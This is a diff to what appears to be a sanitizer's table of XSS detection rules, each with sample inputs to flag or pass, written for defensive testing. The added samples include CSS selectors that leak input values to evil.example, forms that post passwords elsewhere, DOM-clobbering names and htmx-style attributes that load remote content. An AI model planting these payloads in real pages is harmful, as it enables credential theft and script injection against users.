@@ -14,10 +14,19 @@ findings! {
         ["javascript:alert(1)", "<a href=' java\tscript:x()'>", "data:text/html,<b>"],
         ["javascript: the good parts", "data:image/png;base64,AAAA"];
     ACTIVE_STYLE: "xss-active-style", STRONG, "a style that runs or loads something",
-        ["<p style='x:expr/**/ession(alert(1))'>", "<style>@import'//evil.example/x'</style>"],
-        ["<p style='color:red'>"];
+        ["<p style='x:expr/**/ession(alert(1))'>", "<style>@import'//evil.example/x'</style>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>"],
+        ["<p style='color:red'>", "set url(x) in the style"];
     DANGEROUS_ATTRIBUTE: "xss-attribute", STRONG, "an attribute that holds markup or a place to send a form",
         ["<x srcdoc='&lt;'>", "<button formaction=//evil.example>"], ["<p class='x'>"];
+    FOREIGN_FORM: "xss-foreign-form", STRONG, "a form that posts elsewhere",
+        ["<form action=//evil.example><input type=password>", "<form method=post action=' https://evil.example/x'>", "<form action='\\\\evil.example'>"],
+        ["<form action=/search>", "<form action='?a=https://x.example'>"];
+    CLOBBERING: "xss-clobbering", STRONG @ 2, "an element named like a member of the page that scripts rely on",
+        ["<img name=cookie>", "<form id=getElementById>", "<input name=parentNode>", "<a id=attributes>"],
+        ["<img name=photo>", "<input name=body>", "<a name=top>", "<h2 id=location>"];
+    LIBRARY_ATTRIBUTE: "xss-library-attribute", STRONG @ 2, "an attribute that scripts of the page load from, or run",
+        ["<div hx-get=//evil.example/x hx-trigger=load>", "<p data-hx-post=/account/delete>", "<i x-init=a()>", "<b v-html=x>", "<i ng-init='a=1'>"],
+        ["<p data-id=7>", "<p class=hx-get>", "hx-get=/x loads it"];
     SPELLED_TAG: "xss-spelled-tag", STRONG, "a tag with its letters apart", ["<s c r i p t"], ["a <b and c"];
     NAMESPACED: "xss-namespaced-tag", MEDIUM, "a tag of some namespace", [], [];
     FORM_TAG: "xss-page-tag", MEDIUM, "a tag of whole pages", [], [];
